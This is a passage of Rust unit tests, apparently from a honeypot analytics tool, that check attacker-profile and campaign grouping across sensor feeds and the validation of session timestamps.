        let p = attacker_profile("159.223.155.110", &stored[..4], &net, 100);
        assert_eq!((p.sessions, p.sensors.len()), (2, 1), "{p:#?}");
        assert_eq!(p.sensors.iter().next().unwrap().feed_id, 1, "the lowest feed stands for the copies");
        assert_eq!(p.command_sequences[0].sessions, 2);

        let links: Vec<SessionLinks> = stored
            .iter()
            .map(|(f, s)| SessionLinks {
                feed_id: *f,
                sensor: s.sensor.clone(),
                session: s.session.clone(),
                attacker: s.attacker.clone().unwrap(),
                start: None,
                end: None,
                links: links(s),
            })
            .collect();
        let got = campaigns(&links, 2, &net);
        assert_eq!(got.len(), 1, "{got:#?}");
        assert_eq!((got[0].kind, got[0].attackers.len(), got[0].sessions, got[0].sensors.len()), (LinkKind::Commands, 2, 3, 1));
        // A sensor of the same name in another feed, with sessions of its own, is another sensor.
        let mut other = links[4].clone();
        other.feed_id = 3;
        other.session = "own".into();
        let got = campaigns(&[links.clone(), vec![other]].concat(), 2, &net);
        assert_eq!((got[0].sessions, got[0].sensors.len()), (4, 2));
    }
}

#[cfg(test)]
mod time_rule_tests {
    use super::*;

    #[test]
    fn session_times_follow_the_reported_time_rule() {
        let now = crate::parse_time("2026-12-04T18:00:00Z").unwrap();
        let at = |s: &str| Some(crate::parse_time(s).unwrap());
        let mut r = SessionRecord::default();
        r.start = at("9999-01-01T00:00:00Z");
        assert_eq!(r.check_times(now).unwrap_err().0, "in_future");
        r.start = at("2026-12-04T10:00:00Z");
        r.end = at("2999-01-01T00:00:00Z");
        assert_eq!(r.check_times(now).unwrap_err().0, "in_future");
        r.end = at("2026-12-04T09:00:00Z");
        assert_eq!(r.check_times(now).unwrap_err().0, "invalid_session");
        r.end = at("2026-12-04T11:00:00Z");
        assert!(r.check_times(now).is_ok());
    }
}
